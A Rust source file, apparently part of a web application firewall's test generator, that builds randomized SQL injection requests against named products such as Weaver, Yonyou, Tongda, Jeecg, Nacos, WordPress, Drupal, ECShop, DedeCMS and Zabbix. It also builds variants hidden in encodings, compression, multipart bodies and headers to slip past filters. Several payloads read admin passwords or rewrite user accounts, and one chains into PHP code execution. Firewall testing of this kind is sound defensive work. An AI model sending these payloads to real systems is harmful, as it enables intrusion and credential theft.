//! SQL as exploits of known products send it: offices and resource planning as they are sold in China, content systems,
//! monitors and hospital software; and bodies written so that a filter reads them differently from the application.

use medward_waf::AttackClass;

use super::super::super::attack::{AttackGrammar, request};
use super::super::super::codec;
use super::super::super::encode::Encoding;
use super::super::super::place::Place;
use super::super::super::rng::Rng;
use super::super::super::wire::{FORM, JSON, Part, Wire};
use super::tools::{Shot, form, in_base64, json, loose, parts, query, sent, xml};

pub(super) const ATTACKS: &[AttackGrammar] = &[
    request("sql-of-offices", AttackClass::Sqli, 34, offices),
    request("sql-of-sites", AttackClass::Sqli, 34, sites),
    request("sql-in-odd-bodies", AttackClass::Sqli, 32, odd_bodies),
];

/// Weaver, Seeyon, Yonyou, Tongda, Landray, Kingdee, Wanhu, Hongfan, Jeecg, Esafenet, Nacos.
fn offices(rng: &mut Rng) -> Shot {
    let (n, m, word) = (rng.between(1, 9999), rng.between(3, 9), rng.letters(4));
    let delay = format!("waitfor delay '0:0:{m}'");
    match rng.below(24) {
        0 => query(format!("/js/hrm/getdata.jsp?cmd=getSelectAllId&sql={}", codec::form(format!("select password as id from HrmResourceManager where id={n}"))), rng),
        1 => form("/mobile/browser/WorkflowCenterTreeData.jsp?node=wftype_1&scope=2333", format!("formids=11111111111))){}union+select+{n},instance_name+from+v%24instance+order+by+(((1", "%0a%0d".repeat(m * 9)), rng),
        2 => query(format!("/mobile/%20/plugin/browser.jsp?isDis=1&browserTypeId=269&keyword={}", codec::percent_all(codec::percent_all(codec::percent_all(format!("a' union select 1,'{n}'+'{word}").as_bytes()).as_bytes()).as_bytes())), rng),
        3 => form("/weaver/weaver.file.FileDownloadForOutDoc", format!("fileid={n}+WAITFOR+DELAY+'0:0:{m}'&isFromOutImg=1"), rng),
        4 => query(format!("/cpt/manage/validate.jsp?sourcestring=validateNum&sourceType=1&id={}", loose(format!("{n} union select str(98989*{m})"))), rng),
        5 => form("/general/bi_design/appcenter/report_bi.func.php", format!("_POST[dataset_id]={word}%27-%40%60%27%60%29union%20select%20database%28%29%2C{m}%2Cuser%28%29%23%27&action=get_link_info&"), rng),
        6 => query(format!("/general/document/index.php/recv/register/insert?title)values(\"'\"^exp(if(ascii(substr(MOD({n},{m}),1,1))<128,1,710)))# =1&_SERVER=").replace('"', "%22").replace('#', "%23").replace('^', "%5E").replace('<', "%3C").replace(' ', "%20"), rng),
        7 => form("/general/email/inbox/get_index_data.php?asc=0&boxid=&boxname=inbox&curnum=0&emailtype=ALLMAIL&keyword=&orderby=", format!("orderby=3+and+(select+1+from+(select+sleep({m}))a)&n={n}"), rng),
        8 => form("/Proxy", format!("cVer=9.8.0&dp={}", codec::form(format!("<?xml version=\"1.0\" encoding=\"GB2312\"?><R9PACKET version=\"1\"><DATAFORMAT>XML</DATAFORMAT><R9FUNCTION><NAME>AS_DataRequest</NAME><PARAMS><PARAM><NAME>ProviderName</NAME><DATA format=\"text\">DataSetProviderData</DATA></PARAM><PARAM><NAME>Data</NAME><DATA format=\"text\">select user,db_name(),host_name(),{n}</DATA></PARAM></PARAMS></R9FUNCTION></R9PACKET>"))), rng),
        9 => form("/u8qx/bx_historyDataCheck.jsp", format!("userName='%3b{}--&ysnd=&historyFlag={n}", codec::form(&delay)), rng),
        10 => query(format!("/ebvp/infopub/showcontent?id={n}'%20AND%20{n}=DBMS_PIPE.RECEIVE_MESSAGE('{word}',{m})--"), rng),
        11 => query(format!("/u8cloud/openapi/archive/verify?appcode=huo{n}&isEncrypt=N';{}--", codec::percent(&delay)), rng),
        12 => query(format!("/yyoa/ext/trafaxserver/ExtnoManage/setextno.jsp?user_ids=({n})%20union%20all%20select%201,2,md5({n}),user()%23"), rng),
        13 => query(format!("/yyoa/common/js/menu/test.jsp?doType=101&S1=(SELECT%20@@basedir%20{word})"), rng),
        14 => form("/third/DingTalk/Demo.jsp", format!("url=http://x&m=';if(1=(select+count(*)+from+sysobjects+where+name+like+'{word}%25'))waitfor+delay+'0:0:{m}'--"), rng),
        15 => query(format!("/K3Cloud/mobile/list?filter={}", codec::percent(format!("FNUMBER='{word}' or 1=(select top 1 cast(FNAME as int) from T_SEC_USER)"))), rng),
        16 => query(format!("/defaultroot/public/iSignatureHTML.jsp/DocumentEdit.jsp?DocumentID={n}';{}--", codec::percent(&delay)), rng),
        17 => xml("/iOffice/prg/set/wss/udfmr.asmx", format!("<?xml version=\"1.0\" encoding=\"utf-8\"?><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><GetEmpSearch xmlns=\"http://tempuri.org/ioffice/udfmr\"><condition>1=user_name(0)--{word}</condition></GetEmpSearch></soap:Body></soap:Envelope>"), rng),
        18 => json("/jeecg-boot/jmreport/qurestSql", format!("{{\"apiSelectId\":\"{}' or '%1%' like (updatexml(0x3a,concat(1,(version())),1)) or '%%' like '{word}\"}}", rng.digits(19)), rng),
        19 => query(format!("/jeecg-boot/sys/ng-alain/getDictItemsByTable/'%20from%20sys_user/*,%20'/x{n}.js"), rng),
        20 => query(format!("/nacos/v1/cs/ops/derby?sql={}", codec::form(format!("select * from users where username<>'{word}'"))), rng),
        21 => form("/CDGServer3/NoticeAjax;Service", format!("command=delNotice&noticeId={n}'+if(db_name(1)='master')+waitfor+delay+'0:0:{m}'--"), rng),
        22 => json("/emm-core/api/verify", format!("{{\"loginid\":\"{word}' AND (SELECT {n} FROM (SELECT(SLEEP({m})))a)-- \",\"token\":\"\"}}"), rng),
        _ => form("/webservice/getData.asmx/GetTable", format!("Sql=select%20top%20{m}%20*%20from%20master..syslogins&key={word}"), rng),
    }
}

/// WordPress, Joomla, Drupal, ECShop, DedeCMS, Discuz, Zabbix, Cacti, GeoServer, GLPI, OpenEMR, SkyWalking, Django.
fn sites(rng: &mut Rng) -> Shot {
    let (n, m, word) = (rng.between(1, 9999), rng.between(3, 9), rng.letters(4));
    match rng.below(22) {
        0 => query(format!("/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(0x23,concat(1,md5({n})),1)"), rng),
        1 => form("/?q=node&destination=node", format!("name[0%20;update+users+set+name%3D'{word}'+,+pass+%3d+'%24S%24{}'+where+uid+%3D+'1';;#%20%20]=bob&name[0]=a&pass=x&form_id=user_login_block&op=Log+in", rng.token(52)).replace('#', "%23"), rng),
        2 => {
            let inner = format!("*/ union select 1,0x{},3,4,5,6,7,8,0x{},10-- -", codec::hex(b"' /*"), codec::hex(format!("{{$asd'];assert(base64_decode('{}'));//}}xxx", codec::base64(format!("phpinfo();//{word}"))).as_bytes()));
            let referer = format!("554fcae493e564ee0dc75bdf2ebf94caads|a:2:{{s:3:\"num\";s:{}:\"{inner}\";s:2:\"id\";s:4:\"' /*\";}}554fcae493e564ee0dc75bdf2ebf94ca", inner.len());
            (sent(Wire::get("/user.php?act=login").header("Referer", referer), rng), Place::Header, Encoding::Hex)
        }
        3 => form("/delete_cart_goods.php", format!("id={n}||(updatexml(1,concat(0x7e,(select+md5({n})),0x7e),1))"), rng),
        4 => query(format!("/jsrpc.php?sid=0bcd4ade648214dc&type=9&method=screen.get&timestamp={}&mode=2&screenid=&groupid=&hostid=0&pageFile=history.php&profileIdx=web.item.graph&profileIdx2=updatexml(0,concat(0xa,user()),0)&updateProfile=true&period=3600&stime=20260817050632&resourcetype=17", rng.digits(13)), rng),
        5 => query(format!("/latest.php?output=ajax&sid=&favobj=toggle&toggle_open_state=1&toggle_ids[]=updatexml(0,concat(0xa,md5({n})),0)"), rng),
        6 => query(format!("/wp-admin/admin-ajax.php?action=get_{word}&id={n}%20AND%20(SELECT%2042%20FROM%20(SELECT(SLEEP({m})))b)"), rng),
        7 => form("/wp-admin/admin-ajax.php", format!("action=bookingpress_front_get_category_services&_wpnonce={}&category_id=33&total_service=-{n})+UNION+ALL+SELECT+@@version,@@version_comment,@@version_compile_os,1,2,3,4,5,6--+-", rng.hex(10)), rng),
        8 => query(format!("/wp-json/wp/v2/media/{n}?context=edit&search={word}%27)%20OR%20(SELECT%201%20FROM(SELECT%20COUNT(*),CONCAT((SELECT%20user_pass%20FROM%20wp_users%20LIMIT%201),FLOOR(RAND(0)*2))x%20FROM%20information_schema.tables%20GROUP%20BY%20x)a)--%20-"), rng),
        9 => query(format!("/plus/recommend.php?action=&aid={n}&_FILES[type][tmp_name]=\\%27%20or%20mid=@`\\%27`%20/*!50000union*//*!50000select*/1,2,3,(select%20CONCAT(0x7c,userid,0x7c,pwd)+from+`%23@__admin`%20limit+0,1),5,6,7,8,9%23@`\\%27`+&_FILES[type][name]=1.jpg&_FILES[type][type]=application/octet-stream&_FILES[type][size]=6873").replace('\\', "%5C").replace('`', "%60"), rng),
        10 => query(format!("/plus/search.php?keyword={word}&typeArr[111%3D@`\\'`)+and+(SELECT+1+FROM+(select+count(*),concat(floor(rand(0)*2),(substring((select+CONCAT(0x7c,userid,0x7c,pwd)+from+`%23@__admin`+limit+0,1),1,62)))a+from+information_schema.tables+group+by+a)b)%23@`\\'`+]=a").replace('\\', "%5C").replace('`', "%60"), rng),
        11 => query(format!("/faq.php?action=grouppermission&gids[99]=%27&gids[100][0]=)%20and%20(select%201%20from%20(select%20count(*),concat((select%20md5({n})),floor(rand(0)*2))x%20from%20information_schema.tables%20group%20by%20x)a)%23"), rng),
        12 => query(format!("/geoserver/ows?service=wfs&version=1.0.0&request=GetFeature&typeName={word}:roads&CQL_FILTER=strStartsWith(name,'x'')%20=%20true%20and%201=(SELECT%20CAST%20((SELECT%20version())%20AS%20INTEGER))%20--%20')%20=%20true"), rng),
        13 => query(format!("/front/display.options.php?itemtype={word}&order=ASC&sort[]=(SELECT%20SLEEP({m}))"), rng),
        14 => query(format!("/portal/add_edit_event_user.php?eid={n}%20AND%20EXTRACTVALUE(0,CONCAT(0x5c,VERSION()))"), rng),
        15 => json("/graphql", format!("{{\"query\":\"query queryLogs($condition: LogQueryCondition) {{ queryLogs(condition: $condition) {{ total logs {{ serviceId }} }} }}\",\"variables\":{{\"condition\":{{\"metricName\":\"INFORMATION_SCHEMA.USERS) union all select h2version()||'{word}'-- \",\"state\":\"ALL\",\"paging\":{{\"pageSize\":{m}}}}}}}}}"), rng),
        16 => query(format!("/admin/{word}/?date_joined__extract=year'%20FROM%20start_datetime))%20OR%201=1;SELECT%20PG_SLEEP({m})--"), rng),
        17 => query(format!("/index.php?m=wap&c=index&a=init&siteid={n}&src=%26id=%27%20and%20updatexml(1,concat(1,(user())),1)%23%26m%3D1%26f%3D{word}"), rng),
        18 => query(format!("/remote/graph_view.php?action=tree_content&node=1-1-tree_anchor&rfilter=aaaaa%22%20OR%20%22%22%3d%22((%22))%20UNION%20SELECT%20{n},version(),{}%20--%20", vec!["3"; m].join(",")), rng),
        19 => (sent(Wire::get("/api/zabbix/host").header("X-Forwarded-For", format!("127.0.0.1'+(select*from(select(sleep({m})))a)+'{word}")), rng), Place::Header, Encoding::Plain),
        20 => (sent(Wire::get("/index.php").header("Cookie", format!("lang=zh; zbx_{word}=1; uid={n}%27%20and%20extractvalue(1,concat(0x7e,database()))--%20")), rng), Place::Cookie, Encoding::Plain),
        _ => form("/human.aspx", format!("arg01=a&arg12={}&transaction=session_setvars&X-siLock-SessVar0=MyUsername%3a{word}';UPDATE+users+SET+permission%3d30--+", rng.digits(5)), rng),
    }
}

/// The same break-outs where a filter may not look: names, keys, charsets, compression, doubled parameters, file names.
fn odd_bodies(rng: &mut Rng) -> Shot {
    let (n, m, word) = (rng.between(2, 9999), rng.between(3, 9), rng.letters(4));
    let attack = match rng.below(7) {
        0 => format!("{n}' union select {m},password,3 from users-- "),
        1 => format!("{word}' or '{n}'='{n}"),
        2 => format!("{n}' and sleep({m})-- "),
        3 => format!("{n}';waitfor delay '0:0:{m}'--"),
        4 => format!("{n}' and extractvalue(1,concat(0x7e,version()))-- "),
        5 => format!("{n} or (select count(*) from information_schema.tables)>{m}"),
        _ => format!("{n}')) or pg_sleep({m}) is null--"),
    };
    match rng.below(12) {
        0 => form("/user/list", format!("{}={word}", codec::form(&attack)), rng),
        1 => json("/api/query", format!("{{\"where\":{{{}:\"{word}\"}},\"size\":{m}}}", codec::json(&attack)), rng),
        2 => {
            let body = codec::utf16_be(&format!("{{\"id\":{},\"t\":{n}}}", codec::json(&attack)));
            (sent(Wire::post("/api/patient/query", JSON, body), rng), Place::Json, Encoding::Combined)
        }
        3 => {
            let wire = Wire::post("/search", FORM, codec::gzip(format!("q={}", codec::form(&attack)).as_bytes()));
            (sent(wire.header("Content-Encoding", "gzip"), rng), Place::Form, Encoding::Combined)
        }
        4 => form("/report.aspx", format!("id={n}&type=1&id={}", codec::form(&attack)), rng),
        5 => parts("/upload", &[Part::file("file", &attack.replace('"', ""), "image/png", picture(n))], rng),
        6 => json(
            "/api/page",
            format!("{{\"param\":{}}}", codec::json(format!("{{\"filter\":{},\"n\":{n}}}", codec::json(&attack)))),
            rng,
        ),
        7 => in_base64(query(
            format!("/list?q={}", codec::percent(codec::base64(format!("{{\"name\":{}}}", codec::json(&attack))))),
            rng,
        )),
        8 => {
            let boundary = format!("----{}", rng.token(12));
            let body = format!(
                "--{boundary}\r\nContent-Disposition: form-data; name=id\r\n\r\n{attack}\r\n--{boundary}--\r\n"
            );
            (
                sent(Wire::post("/save.jsp", &format!("multipart/form-data; boundary=\"{boundary}\""), body), rng),
                Place::Multipart,
                Encoding::Plain,
            )
        }
        9 => {
            let boundary = rng.token(16);
            let body = format!(
                "--{boundary}\r\nContent-Disposition: form-data; name=\"id\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--{boundary}--\r\n",
                codec::base64(&attack)
            );
            (
                sent(Wire::post("/save.php", &format!("multipart/form-data; boundary={boundary}"), body), rng),
                Place::Multipart,
                Encoding::Base64,
            )
        }
        10 => {
            let spelled = attack
                .bytes()
                .map(
                    |byte| {
                        if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("&#{byte};") }
                    },
                )
                .collect::<String>();
            xml("/services/Query", format!("<q><id>{spelled}</id><n>{n}</n></q>"), rng)
        }
        _ => (
            sent(
                Wire::new("DELETE", format!("/api/record?ids={}", codec::percent(&attack)))
                    .header("X-HTTP-Method-Override", "DELETE"),
                rng,
            ),
            Place::Query,
            Encoding::Plain,
        ),
    }
}

/// A few bytes that begin as a picture does.
fn picture(number: usize) -> Vec<u8> {
    [b"\x89PNG\r\n\x1a\n".as_slice(), &number.to_be_bytes()].concat()
}
